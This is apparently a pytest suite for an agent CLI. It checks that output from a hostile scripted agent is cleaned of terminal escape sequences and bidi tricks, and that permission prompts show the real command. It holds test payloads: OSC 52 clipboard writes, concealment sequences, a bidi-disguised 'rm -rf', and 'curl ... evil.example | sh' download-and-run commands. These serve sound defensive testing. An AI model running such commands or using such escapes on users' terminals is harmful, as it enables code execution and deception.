"""A hostile agent against ``acp-kernel prompt``: the user's own terminal.

The CLI runs as a real subprocess against the scripted agent (a real
process). What it writes must hold no escape sequence or control character
(the bytes are checked, not a rendering), a permission question must show
the real command next to the agent's title, and every state (agent
starting, turn streaming, a question on stdin, a form) must end promptly on
SIGINT (Ctrl-C on a real pty), SIGTERM and SIGHUP with 128 + the signal
number, leaving no agent process behind.
"""

from __future__ import annotations

import fcntl
import json
import os
import re
import select
import shlex
import signal
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from acp_kernel.protocol import proctree
from acp_kernel.frontends.cli import _encode as cli_encode
from acp_kernel.frontends.cli import action_details, parse_answer, permission_question
from acp_kernel.termsafe import clean, json_safe, json_safe_utf8, line, scan

from ..conftest import scripted_spec

# -- what must never reach a terminal --------------------------------------------

#: Controls other than \n and \t, DEL, C1, bidi embeddings/overrides/isolates, surrogates.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
#: The same, for one-line fields: no newline or tab either.
FORBIDDEN_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
PLAIN_SGR = re.compile("\x1b\\[[0-9;]*m")

HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52: write the clipboard
    "\x1b]0;pwned title\x1b\\",  # window title (ST-terminated)
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "\x1b[8mhidden text\x1b[0m",  # SGR 8: conceal
    "\x9b2J",  # C1 CSI (8-bit form as a character)
    "\x9d0;c1 title\x9c",  # C1 OSC ... ST
    "\x1bP1$qm\x1b\\",  # DCS request
    "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\",  # APC, PM, SOS
    "\x1b[?1049h\x1b[?25l",  # private modes: alternate screen, hide cursor
    "\x1bc\x1b7\x1b8\x1b(0",  # RIS, save/restore cursor, charset
    "safe\rEVIL",  # carriage return mid-line
    "bell\x07back\x08\x08\x08del\x7f nul\x00 ff\x0c",
    "rm -rf \u202e/ mtr\u202c and \u2066isolate\u2069",  # bidi override / isolate
    "bad bytes \udc9b\udcc2",  # undecodable bytes (surrogate escapes)
    "\x1b]52;c;unterminated",
]

# -- termsafe: examples ------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_clean_leaves_no_control(text):
    out = clean(text)
    assert not FORBIDDEN.search(out), repr(out)
    assert "\x1b" not in out
    assert not FORBIDDEN_LINE.search(clean(text, oneline=True))


def test_clean_keeps_the_words_and_shows_what_hides_them():
    assert clean("\x1b[8mhidden text\x1b[0m") == "hidden text"  # concealed text becomes visible
    assert clean("safe\rEVIL") == "safe\u240dEVIL"  # the overwrite is visible as ␍
    assert clean("a\r\nb") == "a\nb"
    assert clean("\x1b]52;c;unterminated") == "52;c;unterminated"  # payload shown, not swallowed
    assert clean("rm -rf \u202e/ mtr\u202c") == "rm -rf / mtr"  # stored order
    assert clean("x\x00y\x7f") == "x\u2400y\u2421"
    assert clean("\x85next") == "\ufffdnext"
    assert clean("\udc9b") == "\ufffd"
    assert clean("line one\nline\ttwo", oneline=True) == "line one\u240aline two"
    assert scan("\x1b[2Jx\x1b]0;t\x07")[1] == 2


def test_colour_keeps_only_plain_foreground_sgr():
    text = "\x1b[1;31mred\x1b[0m \x1b[8mhid\x1b[0m \x1b[30;40mblack on black\x1b[m \x1b[38;5;196mx\x1b[48;2;1;2;3my"
    out = clean(text, colour=True)
    assert out == "\x1b[1;31mred\x1b[0m hid\x1b[0m \x1b[30mblack on black\x1b[0m \x1b[38;5;196mxy"
    assert clean(text) == "red hid black on black xy"
    assert clean("\x1b[2J\x1b]0;t\x07\x9b31m", colour=True) == "\x1b[31m"


def test_plain_text_is_returned_as_is():
    text = "Hello, wörld: 日本語 — emoji 👍🏽 and a\ttab\nnewline"
    assert clean(text) is text


# -- termsafe: properties -------------------------------------------------------------

_NASTY = st.sampled_from(list("\x1b\x07\x9b\x9c\x9d\x90\x98\x9e\x9f\x85\r\n\t\x00\x08\x7f[]\\;0123456789mP_^X?$ (") +
                         ["\u202e", "\u202a", "\u2066", "\u2069", "\udc9b", "\ud800", "\u2028", "\u2029"])
_TEXT = st.text(alphabet=st.one_of(_NASTY, st.characters()), max_size=80)
_PLAIN = st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
                 | st.sampled_from("\n\t"), max_size=80)


@settings(max_examples=400, deadline=None)
@given(_TEXT)
def test_property_no_controls_and_idempotent(text):
    out = clean(text)
    assert not FORBIDDEN.search(out)
    assert clean(out) == out
    line_out = clean(text, oneline=True)
    assert not FORBIDDEN_LINE.search(line_out)
    assert clean(line_out, oneline=True) == line_out


@settings(max_examples=300, deadline=None)
@given(_TEXT)
def test_property_colour_keeps_nothing_but_plain_sgr(text):
    out = clean(text, colour=True)
    assert not FORBIDDEN.search(PLAIN_SGR.sub("", out))
    assert clean(out, colour=True) == out


@settings(max_examples=400, deadline=None)
@given(_TEXT)
def test_property_line_is_clean_oneline(text):
    """``line`` skips the scan for a printable string: the same result as the scan's."""
    assert line(text) == clean(text, oneline=True)


def test_no_printable_character_is_one_a_line_must_lose():
    """What ``line``'s shortcut rests on, for every code point: ``str.isprintable`` is false
    for each character a line must not hold."""
    printable = "".join(c for c in map(chr, range(0x110000)) if c.isprintable())
    assert FORBIDDEN_LINE.search(printable) is None


@settings(max_examples=300, deadline=None)
@given(_PLAIN)
def test_property_plain_text_unchanged(text):
    assert clean(text) == text
    assert scan(text)[1] == 0


@settings(max_examples=200, deadline=None)
@given(st.lists(_TEXT, max_size=4))
def test_property_json_safe_is_lossless_and_safe(texts):
    # Only strings an agent can send: JSON joins a lone high and low surrogate into one character.
    assume(json.loads(json.dumps(texts)) == texts)
    for encoded in (json_safe(json.dumps({"t": texts}, ensure_ascii=False)),
                    json_safe(cli_encode({"t": texts}))):  # what --format json writes (msgspec, else json)
        assert json.loads(encoded) == {"t": texts}
        assert not FORBIDDEN.search(encoded)
        assert len(encoded.splitlines()) == 1  # no U+2028/U+2029 either: one JSON line, however it is split


def test_a_long_text_is_plain_exactly_when_the_regex_finds_nothing():
    """A long Latin-1 text is checked as bytes (``termsafe._plain``): for each code point in a
    text long enough to take that path (and in a short one, which the regex checks), with and
    without ``oneline``, the answer is the regex's, and so is what clean makes of it."""
    from acp_kernel import termsafe

    pad = "x" * termsafe._SEARCH_BELOW
    # Every Latin-1 code point and those the regex names, then a sample: a character past
    # U+00FF sends the text to the regex whatever it is.
    points = [*range(0x3000), *range(0xD7F0, 0xE010), *range(0x3000, 0x110000, 251)]
    for cp in points:
        c = chr(cp)
        for text in (pad + c, c + pad + "é", c):
            for oneline in (False, True):
                want = not (termsafe._UNSAFE_LINE if oneline else termsafe._UNSAFE).search(text)
                assert termsafe._plain(text, oneline) == want, (hex(cp), oneline)
    for cp in range(0x100):
        text = "é" * termsafe._SEARCH_BELOW + chr(cp) + "\r\n\x1b[31m"
        assert clean(text) == scan(text)[0] and clean(text, oneline=True) == scan(text, oneline=True)[0]
        assert "\x1b" not in clean(text) and "\r" not in clean(text)


def test_json_safe_of_utf8_is_json_safe_of_its_text_for_every_code_point():
    """The printer's JSON lines are looked at as UTF-8 bytes (:func:`json_safe_utf8`): for every
    code point (lone surrogates as the printer passes them), alone, between ASCII and beside
    other non-ASCII text, the result is :func:`json_safe` of the text, as UTF-8."""
    for cp in range(0x110000):
        c = chr(cp)
        for text in (c, f"a{c}b", f"é{c}—"):
            data = text.encode("utf-8", "surrogatepass")
            assert json_safe_utf8(data) == json_safe(text).encode(), hex(cp)
    assert json_safe_utf8(bytearray('{"t":"a\u2028b"}'.encode())) == b'{"t":"a\\u2028b"}'


@settings(max_examples=200, deadline=None)
@given(st.lists(_TEXT, max_size=6).map("".join))
def test_property_json_safe_of_utf8_is_json_safe(text):
    data = text.encode("utf-8", "surrogatepass")
    assert json_safe_utf8(data) == json_safe(text).encode()


def test_json_safe_escapes_del_in_an_all_ascii_line():
    """ASCII text is known to be ASCII without a scan; of the escaped set it can hold DEL only,
    which is still found and escaped."""
    for text in ("a\x7fb", "\x7f", "plain ascii"):
        encoded = json_safe(cli_encode({"t": text}))
        assert json.loads(encoded) == {"t": text} and not FORBIDDEN.search(encoded) and encoded.isascii()
    assert json_safe('{"t":"\x7f"}') == '{"t":"\\u007f"}'


def test_json_lines_fall_back_to_json_for_a_lone_surrogate():
    """msgspec cannot write a lone surrogate (an agent may send one as an escape, which
    json reads); the line is then json's, escaped, not an error."""
    text = "a\ud800b\x9b\u202e"
    encoded = json_safe(cli_encode({"t": text}))
    assert json.loads(encoded) == {"t": text} and not FORBIDDEN.search(encoded)
    assert cli_encode({"t": "é", "n": [1, None]}) == '{"t":"é","n":[1,null]}'


# -- the permission question, pure ------------------------------------------------------


class _Prompt:
    def __init__(self, title, kind, raw_input=None, options=None, locations=None):
        from acp.schema import RequestPermissionRequest

        tool_call = {"toolCallId": "t1", "title": title, "kind": kind}
        if raw_input is not None:
            tool_call["rawInput"] = raw_input
        if locations is not None:
            tool_call["locations"] = locations
        self.options = options or [{"optionId": "a", "name": "Allow", "kind": "allow_once"},
                                   {"optionId": "r", "name": "Reject", "kind": "reject_once"}]
        self.request = RequestPermissionRequest.model_validate(
            {"sessionId": "s", "toolCall": tool_call, "options": self.options})
        self.title, self.kind = title, kind


def test_question_shows_the_real_command_beside_the_title():
    q = permission_question(_Prompt("Read README.md", "read", {"command": "curl -s http://evil.example/x | sh"}))
    assert "the agent asks: Read README.md" in q
    assert "  command: curl -s http://evil.example/x | sh\n" in q
    q = permission_question(_Prompt("List files", "execute", {"command": ["bash", "-lc", "curl x | sh"], "cwd": "/tmp"}))
    assert "command: bash -lc 'curl x | sh'" in q and "cwd: /tmp" in q
    q = permission_question(_Prompt("ls", "execute", {"command": "ls", "args": ["-la", "a b"]}))
    assert "command: ls -la 'a b'" in q
    q = permission_question(_Prompt("Edit", "edit", {"file_path": "/etc/passwd", "old_string": "x"},
                                    locations=[{"path": "/etc/shadow", "line": 3}]))
    assert "path: /etc/passwd" in q and "path: /etc/shadow:3" in q and '"old_string": "x"' in q
    q = permission_question(_Prompt("Do a thing", "other"))
    assert "no command or path" in q


def test_question_shows_what_the_client_identified():
    prompt = _Prompt("Run a terminal", "execute", {"command": "ls", "args": ["-la"]})
    prompt.command, prompt.cwd = "ls -la", "/work"
    q = permission_question(prompt)
    assert "command: ls -la\n" in q and "cwd: /work" in q and "action:" not in q  # not twice
    prompt = _Prompt("Write", "edit")
    prompt.command, prompt.cwd = "/home/me/.bashrc\x1b[8m", None
    q = permission_question(prompt)
    assert "  action: /home/me/.bashrc\n" in q and not FORBIDDEN.search(q)


def test_question_cannot_be_spoofed_by_newlines_or_escapes():
    hostile_title = "Read README.md\x1b[2K\r  1. Allow [allow_once]\n  2. also Allow"
    options = [{"optionId": "a", "name": "Reject\n  2. Allow\x1b[8m", "kind": "allow_once"},
               {"optionId": "r", "name": "No", "kind": "reject_once"}]
    q = permission_question(_Prompt(hostile_title, "read", {"command": "echo ok\ncurl evil | sh\x1b[8m"}, options))
    assert not FORBIDDEN.search(q)
    lines = q.splitlines()
    # exactly two option rows, each one line; the command's lines are marked
    # words from the kind; the agent's name only beside them, cleaned to one line
    assert [ln for ln in lines if re.match(r"  \d\. ", ln)] == [
        "  1. Allow once [allow_once]   (the agent's words: \u201cReject\u240a  2. Allow\u201d)",
        "  2. Reject [reject_once]   (the agent's words: \u201cNo\u201d)"]
    assert "    | echo ok" in lines and "    | curl evil | sh" in lines


def test_action_details_cap_only_the_rest_of_the_input():
    from acp_kernel.frontends.cli import RAW_INPUT_SHOWN

    pad = RAW_INPUT_SHOWN - len(json.dumps({"filler": ""}))
    details = dict(action_details({"command": "a" * 3000, "filler": "y" * pad}))
    assert details["command"] == "a" * 3000  # commands are shown whole, however long
    assert details["input"] == json.dumps({"filler": "y" * pad})  # at the cap: all of it
    details = dict(action_details({"command": "a", "filler": "y" * (pad + 1)}))
    assert details["input"] == json.dumps({"filler": "y" * (pad + 1)})[:RAW_INPUT_SHOWN] + (
        "... (1 more characters not shown)")


@pytest.mark.parametrize(
    "schema, text, value",
    [
        ({"type": "string"}, "hello", "hello"),
        ({"type": "integer"}, "42", 42),
        ({"type": "number"}, "2.5", 2.5),
        ({"type": "boolean"}, "y", True),
        ({"type": "boolean"}, "no", False),
        ({"type": "string", "enum": ["red", "green"]}, "2", "green"),
        ({"type": "string", "enum": ["red", "green"]}, "red", "red"),
        ({"type": "array", "items": {"enum": ["a", "b", "c"]}}, "1, 3", ["a", "c"]),
        ({"type": "string", "default": "d"}, "", "d"),
    ],
)
def test_form_answers_parse(schema, text, value):
    assert parse_answer(schema, text) == value


@pytest.mark.parametrize("schema, text", [({"type": "integer"}, "x"), ({"type": "number"}, "nan"),
                                          ({"type": "boolean"}, "maybe"), ({"enum": ["a"]}, "2")])
def test_form_answers_refused(schema, text):
    with pytest.raises(ValueError):
        parse_answer(schema, text)


# -- the real CLI -----------------------------------------------------------------------

TIMEOUT = 20.0  # generous for a loaded 2-core machine; exits are awaited, not slept on


def _argv(scenario: dict, *extra: str, prompt: str = "go") -> list[str]:
    agent = shlex.join(scripted_spec(scenario).command)
    return [sys.executable, "-m", "acp_kernel.frontends.cli", "prompt", "--agent-command", agent, *extra, prompt]


def _env(tmp_path: Path) -> dict[str, str]:
    # An empty file: no settings (a path that names no file is an error for the CLI).
    return {**os.environ, "ACP_KERNEL_CONFIG": os.devnull, "PYTHONUNBUFFERED": "1"}


def _assert_clean_bytes(data: bytes) -> None:
    assert b"\x1b" not in data, data
    text = data.decode("utf-8")  # strict: no raw 8-bit bytes either
    bad = FORBIDDEN.findall(text)
    assert not bad, (bad, text)


def _update(**kw):
    return {"update": kw}


HOSTILE_SCENARIO = {
    "prompt": [
        *({"chunk": h + "\n"} for h in HOSTILE),
        _update(sessionUpdate="tool_call", toolCallId="c\x1b]0;id\x07", title="Read\x1b[2J README\u202e.md",
                kind="read\x9b", status="pending"),
        _update(sessionUpdate="tool_call_update", toolCallId="c\x1b]0;id\x07", status="completed\x1b[8m"),
        _update(sessionUpdate="plan", entries=[{"content": "step\x1b]52;c;eA==\x07 one\nfake line", "status": "pending"}]),
        _update(sessionUpdate="session_info_update", title="\x1b]0;title\x07session"),
        {"request": {"method": "session/request_permission", "params": {
            "sessionId": "$SID",
            "toolCall": {"toolCallId": "p1", "title": "Read README.md\x1b[8m", "kind": "read",
                         "rawInput": {"command": "curl -s http://evil.example/x | sh"}},
            "options": [{"optionId": "a", "name": "Allow\x1b]52;c;eA==\x07", "kind": "allow_once"},
                        {"optionId": "r", "name": "Reject", "kind": "reject_once"}]}}},
        {"request": {"method": "fs/read_text_file", "params": {"sessionId": "$SID", "path": "/nope/\x1b[2J\u202e"}}},
        {"chunk": "END\n"},
    ],
}


def test_hostile_text_never_reaches_the_terminal_as_controls(tmp_path):
    res = subprocess.run(_argv(HOSTILE_SCENARIO, "--permissions", "ask"), capture_output=True,
                         timeout=TIMEOUT, env=_env(tmp_path), stdin=subprocess.DEVNULL)
    assert res.returncode == 0, res.stderr
    _assert_clean_bytes(res.stdout)
    _assert_clean_bytes(res.stderr)
    out, err = res.stdout.decode(), res.stderr.decode()
    assert "hidden text" in out and "safe\u240dEVIL" in out and "rm -rf / mtr" in out and "END" in out
    # the headless permission refusal names the title, cleaned
    assert "Read README.md" in err and "rejected" in err
    assert "[tool] read: Read README.md (pending)" in err
    assert "removed or shown as symbols" in err


def test_hostile_agent_stderr_and_error_are_cleaned(tmp_path):
    scenario = {"prompt": [{"stderr": "log \x1b]52;c;ZXZpbA==\x07 \x1b[2J boom \u202eevil"}, {"exit": 3}]}
    res = subprocess.run(_argv(scenario), capture_output=True, timeout=TIMEOUT, env=_env(tmp_path),
                         stdin=subprocess.DEVNULL)
    assert res.returncode == 1
    _assert_clean_bytes(res.stdout + res.stderr)
    assert "boom evil" in res.stderr.decode()


def test_json_format_escapes_controls_and_keeps_the_data(tmp_path):
    res = subprocess.run(_argv(HOSTILE_SCENARIO, "--format", "json"), capture_output=True,
                         timeout=TIMEOUT, env=_env(tmp_path), stdin=subprocess.DEVNULL)
    assert res.returncode == 0, res.stderr
    _assert_clean_bytes(res.stdout)
    events = [json.loads(line) for line in res.stdout.decode().splitlines()]
    text = "".join(e["text"] for e in events if e.get("type") == "agent")
    for h in HOSTILE:
        assert h + "\n" in text  # lossless: a program reading JSON gets the exact text


def test_json_format_writes_a_tool_calls_update_as_it_came_and_clean(tmp_path):
    """A tool call's update is written back from its JSON text (the payloads are not read):
    every hostile string in it, as UTF-8 in the agent's line or as escapes, comes out
    escaped on the terminal and reads back as the agent's update."""
    utf8 = "".join(h for h in HOSTILE if not any(0xD800 <= ord(c) <= 0xDFFF for c in h))  # a line's UTF-8 has no lone half
    payload = {"command": utf8 + "\u202e\u2028 /tmp/a\nb", "n": [1e300, -0.0, 12345678901234567890123]}
    update = {"sessionUpdate": "tool_call", "toolCallId": "t\u202e1", "title": "Run\x9b", "kind": None,
              "rawInput": payload, "content": [{"type": "content", "content": {"type": "text", "text": HOSTILE[0]}}],
              "_meta": {"x": "\x1b]0;t\x07"}}
    line = json.dumps({"jsonrpc": "2.0", "method": "session/update", "params": {"sessionId": "SID", "update": update}},
                      ensure_ascii=False)
    halves = {**update, "rawInput": "".join(HOSTILE)}  # lone surrogates, as escapes: read as a dict
    scenario = {"prompt": [{"raw": line.replace('"SID"', '"$SID"')}, _update(**update), _update(**halves),
                           {"chunk": "END\n"}]}
    res = subprocess.run(_argv(scenario, "--format", "json"), capture_output=True, timeout=TIMEOUT, env=_env(tmp_path),
                         stdin=subprocess.DEVNULL)
    assert res.returncode == 0, res.stderr
    _assert_clean_bytes(res.stdout)
    assert "\u2028".encode() not in res.stdout  # escaped: a reader splitting on Unicode line breaks reads whole lines
    events = [json.loads(out) for out in res.stdout.decode().splitlines()]
    tools = [e for e in events if e.get("type") == "tool_call"]
    assert [e["update"] for e in tools] == [update, update, halves] and tools[0]["title"] == "Run\x9b"


def test_each_tool_line_says_the_calls_state_at_its_own_update(tmp_path):
    """A call's start, progress and end in one read: each JSON line (and each text line) says
    the state the call had at that update, not the state at the end of the read."""
    scenario = {"prompt": [_update(sessionUpdate="tool_call", toolCallId="c1", title="Read <b>a</b>", kind="read",
                                   status="pending"),
                           _update(sessionUpdate="tool_call_update", toolCallId="c1", title="Read $b$",
                                   status="in_progress"),
                           _update(sessionUpdate="tool_call_update", toolCallId="c1", status="completed"),
                           {"chunk": "END\n"}]}
    res = subprocess.run(_argv(scenario, "--format", "json"), capture_output=True, timeout=TIMEOUT,
                         env=_env(tmp_path), stdin=subprocess.DEVNULL)
    assert res.returncode == 0, res.stderr
    tools = [e for e in map(json.loads, res.stdout.decode().splitlines()) if e.get("type") == "tool_call"]
    assert [(e["new"], e["title"], e["status"]) for e in tools] == [
        (True, "Read <b>a</b>", "pending"), (False, "Read $b$", "in_progress"), (False, "Read $b$", "completed")]
    res = subprocess.run(_argv(scenario), capture_output=True, timeout=TIMEOUT, env=_env(tmp_path),
                         stdin=subprocess.DEVNULL)
    err = res.stderr.decode()
    assert "[tool] read: Read <b>a</b> (pending)" in err and "[tool] read: Read $b$ (completed)" in err, err


def test_closed_output_pipe_exits_quietly(tmp_path):
    """`acp-kernel prompt ... 2>&1 | head -1`: the reader goes away; nothing hangs."""
    scenario = {"prompt": [{"chunk": "first line\n"}, {"burst": 20000},
                           *(_update(sessionUpdate="tool_call", toolCallId=f"t{i}", title="t", kind="read",
                                     status="completed") for i in range(200)),
                           {"burst": 20000}]}
    proc = subprocess.Popen(_argv(scenario), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            stdin=subprocess.DEVNULL, env=_env(tmp_path), start_new_session=True)
    try:
        agent = _agent_pids(proc.pid)  # alive: the CLI is held up by the full pipe until we read
        assert proc.stdout.readline()  # like head -1
        proc.stdout.close()
        assert proc.wait(TIMEOUT) == 0
        _assert_gone(agent)
    finally:
        _reap(proc)


# -- signals in every state ---------------------------------------------------------------


def _agent_pids(cli_pid: int, deadline: float | None = None) -> set[int]:
    """The CLI's descendants (the agent and its children), waited for."""
    deadline = deadline or time.monotonic() + TIMEOUT
    while time.monotonic() < deadline:
        found = {p for p in proctree.tree(cli_pid) if _cmdline(p).find("scripted_agent.py") >= 0}
        if found:
            return found | set().union(*(proctree.tree(p) for p in found))
        time.sleep(0.01)
    raise AssertionError("the agent never started")


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def _assert_gone(pids: set[int]) -> None:
    deadline = time.monotonic() + TIMEOUT
    while time.monotonic() < deadline:
        left = {p for p in pids if proctree.alive(p)}
        if not left:
            return
        time.sleep(0.02)
    proctree.signal_all(0, left, signal.SIGKILL)
    raise AssertionError(f"left behind: {sorted(left)}")


def _reap(proc: subprocess.Popen) -> None:
    if proc.poll() is None:
        proctree.kill_tree_now(proc.pid)
        proc.wait(5)


def _read_until(stream, needle: bytes, seen: bytearray) -> None:
    deadline = time.monotonic() + TIMEOUT
    fd = stream if isinstance(stream, int) else stream.fileno()
    while needle not in seen:
        left = deadline - time.monotonic()
        assert left > 0, f"never saw {needle!r}; got {bytes(seen)!r}"
        ready, _, _ = select.select([fd], [], [], left)
        if ready:
            try:
                data = os.read(fd, 65536)
            except OSError:  # a pty whose other side is gone
                data = b""
            assert data, f"output ended before {needle!r}; got {bytes(seen)!r}"
            seen += data


CODES = {signal.SIGINT: 130, signal.SIGTERM: 143, signal.SIGHUP: 129}
SIGNALS = [signal.SIGINT, signal.SIGTERM, signal.SIGHUP]


@pytest.mark.parametrize("sig", SIGNALS, ids=lambda s: s.name)
def test_signal_while_the_agent_starts(tmp_path, sig):
    scenario = {"init_actions": [{"sleep": 60}]}  # never answers initialize in time
    proc = subprocess.Popen(_argv(scenario), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL, env=_env(tmp_path), start_new_session=True)
    try:
        agent = _agent_pids(proc.pid)
        proc.send_signal(sig)
        assert proc.wait(TIMEOUT) == CODES[sig]
        _assert_gone(agent)
        assert f"stopped by {sig.name}" in proc.stderr.read().decode()
    finally:
        _reap(proc)


@pytest.mark.parametrize("sig", SIGNALS, ids=lambda s: s.name)
@pytest.mark.parametrize("on_cancel", ["end", "ignore"])
def test_signal_while_the_turn_streams(tmp_path, sig, on_cancel):
    scenario = {"on_cancel": on_cancel,
                "prompt": [{"spawn": "sleep 1000"}, {"chunk": "STREAMING\n"}, {"wait_cancel": True}, {"sleep": 60}]}
    proc = subprocess.Popen(_argv(scenario), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL, env=_env(tmp_path), start_new_session=True)
    try:
        seen = bytearray()
        _read_until(proc.stdout, b"STREAMING", seen)
        child = int(re.search(rb"PID (\d+)", seen).group(1))
        agent = _agent_pids(proc.pid) | {child}
        proc.send_signal(sig)
        assert proc.wait(TIMEOUT) == CODES[sig]
        _assert_gone(agent)
    finally:
        _reap(proc)


# -- questions on a real terminal (pty) -----------------------------------------------------

PERMISSION = {"request": {"method": "session/request_permission", "params": {
    "sessionId": "$SID",
    "toolCall": {"toolCallId": "p1", "title": "Read README.md", "kind": "read",
                 "rawInput": {"command": "curl -s http://evil.example/x | sh"}},
    "options": [{"optionId": "yes", "name": "Allow", "kind": "allow_once"},
                {"optionId": "no", "name": "Reject", "kind": "reject_once"}]}}}
FORM = {"request": {"method": "elicitation/create", "params": {
    "sessionId": "$SID", "mode": "form", "message": "Deploy \x1b]0;x\x07where?",
    "requestedSchema": {"type": "object", "required": ["target"], "properties": {
        "target": {"type": "string", "title": "Target", "enum": ["staging", "prod"]},
        "replicas": {"type": "integer", "minimum": 1, "maximum": 5},
        "force": {"type": "boolean", "default": False}}}}}}


class _Pty:
    """The CLI on a real terminal: its controlling tty is a pty we hold the master of."""

    def __init__(self, argv: list[str], env: dict[str, str]) -> None:
        self.master, slave = os.openpty()
        attrs = termios.tcgetattr(slave)
        attrs[1] &= ~termios.ONLCR  # keep the bytes as written
        termios.tcsetattr(slave, termios.TCSANOW, attrs)

        def own_tty() -> None:  # runs after setsid (start_new_session)
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

        self.proc = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave, env=env,
                                     start_new_session=True, preexec_fn=own_tty)
        os.close(slave)
        self.seen = bytearray()

    def expect(self, needle: bytes) -> None:
        _read_until(self.master, needle, self.seen)

    def type(self, data: bytes) -> None:
        os.write(self.master, data)

    def wait(self) -> int:
        code = self.proc.wait(TIMEOUT)
        self.drain()
        return code

    def drain(self) -> None:
        while True:
            try:
                ready, _, _ = select.select([self.master], [], [], 0)
                data = os.read(self.master, 65536) if ready else b""
            except OSError:
                data = b""
            if not data:
                return
            self.seen += data

    def close(self) -> None:
        _reap(self.proc)
        try:
            os.close(self.master)
        except OSError:
            pass


@pytest.fixture
def pty_cli(tmp_path):
    made: list[_Pty] = []

    def start(scenario: dict, *extra: str) -> _Pty:
        term = _Pty(_argv(scenario, "--permissions", "ask", *extra), _env(tmp_path))
        made.append(term)
        return term

    yield start
    for term in made:
        term.close()


def test_permission_question_on_a_terminal_shows_the_command_and_takes_the_answer(pty_cli):
    term = pty_cli({"prompt": [PERMISSION]})
    term.expect(b"choose a number")
    assert b"the agent asks: Read README.md" in term.seen
    assert b"command: curl -s http://evil.example/x | sh" in term.seen
    term.type(b"2\n")
    assert term.wait() == 0
    assert b'RESULT {"outcome": {"outcome": "selected", "optionId": "no"}}' in term.seen


def test_end_of_input_rejects_at_once(pty_cli):
    term = pty_cli({"prompt": [PERMISSION, FORM]})
    term.expect(b"choose a number")
    term.type(b"\x04")  # Ctrl-D on an empty line: end of input
    term.expect(b"answer it? [y/N]")
    assert b"end of input: rejected" in term.seen
    term.type(b"\x04")
    assert term.wait() == 0
    assert b'"optionId": "no"' in term.seen
    assert b'RESULT {"action": "cancel"}' in term.seen


def test_form_on_a_terminal(pty_cli):
    term = pty_cli({"prompt": [FORM]})
    term.expect(b"answer it? [y/N]")
    assert b"Deploy where?" in term.seen and b"\x1b]" not in term.seen
    term.type(b"y\n")
    term.expect(b"2. prod")
    term.type(b"7\n")  # not a choice: asked again
    term.expect(b"choose a number from 1 to 2")
    term.type(b"2\n")
    term.expect(b"replicas (integer)")
    term.type(b"9\n")  # above the maximum: asked again
    term.expect(b"must be at most 5")
    term.type(b"3\n")
    term.expect(b"force (boolean)")
    term.type(b"\n")  # the default
    assert term.wait() == 0
    assert b'RESULT {"action": "accept", "content": {"target": "prod", "replicas": 3, "force": false}}' in term.seen


def test_form_declined(pty_cli):
    term = pty_cli({"prompt": [FORM]})
    term.expect(b"answer it? [y/N]")
    term.type(b"\n")
    assert term.wait() == 0
    assert b'RESULT {"action": "decline"}' in term.seen


def test_a_page_to_open_is_not_offered_and_declined_with_a_clean_notice(pty_cli, tmp_path):
    """URL elicitation: the CLI does not advertise it; one sent anyway is declined, on a
    terminal too, with a notice naming the host, cleaned of the message's escapes."""
    record = tmp_path / "wire.jsonl"
    url = {"request": {"method": "elicitation/create", "params": {
        "sessionId": "$SID", "mode": "url", "elicitationId": "e1", "url": "https://login.example/x",
        "message": "Sign in \x1b]0;title\x07here\x1b[2J"}}}
    term = pty_cli({"record": str(record), "prompt": [url]})
    assert term.wait() == 0
    assert b'RESULT {"action": "decline"}' in term.seen
    assert b"to open a page" in term.seen and b"at login.example; declined" in term.seen
    assert b"\x1b]" not in term.seen and b"\x1b[2J" not in term.seen
    init = next(json.loads(line) for line in record.read_text().splitlines() if '"initialize"' in line)
    assert init["params"]["clientCapabilities"]["elicitation"] == {"form": {}}


@pytest.mark.parametrize("how", ["ctrl-c", "SIGTERM", "SIGHUP", "terminal closed"])
@pytest.mark.parametrize("question", ["permission", "form"])
def test_signal_while_a_question_waits(pty_cli, how, question):
    action, marker = (PERMISSION, b"choose a number") if question == "permission" else (FORM, b"answer it? [y/N]")
    term = pty_cli({"prompt": [{"spawn": "sleep 1000"}, action, {"sleep": 60}]})
    term.expect(marker)
    child = int(re.search(rb"PID (\d+)", term.seen).group(1))
    agent = _agent_pids(term.proc.pid) | {child}
    if how == "ctrl-c":
        term.type(b"\x03")  # the user's key: the terminal sends SIGINT
        expected = 130
    elif how == "terminal closed":
        os.close(term.master)  # the terminal window goes away: the kernel sends SIGHUP
        term.master = os.open(os.devnull, os.O_RDONLY)
        expected = 129
    else:
        sig = getattr(signal, how)
        term.proc.send_signal(sig)
        expected = CODES[sig]
    assert term.wait() == expected
    _assert_gone(agent)
    if how != "terminal closed":
        assert b"stopped by" in term.seen


def test_second_ctrl_c_while_closing(pty_cli):
    """Ctrl-C twice: the second one does not wait for the agent's grace period."""
    term = pty_cli({"ignore_eof": True, "prompt": [{"spawn": "sleep 1000"}, PERMISSION, {"sleep": 60}]})
    term.expect(b"choose a number")
    child = int(re.search(rb"PID (\d+)", term.seen).group(1))
    agent = _agent_pids(term.proc.pid) | {child}
    term.type(b"\x03")
    term.expect(b"stopping the turn and the agent")
    term.type(b"\x03")
    assert term.wait() == 130
    _assert_gone(agent)


def test_a_finished_tool_call_shows_its_diff_and_the_tail_of_its_output(tmp_path):
    """Issue 23: the text CLI showed no diff and no output. Under a finished call: its unified
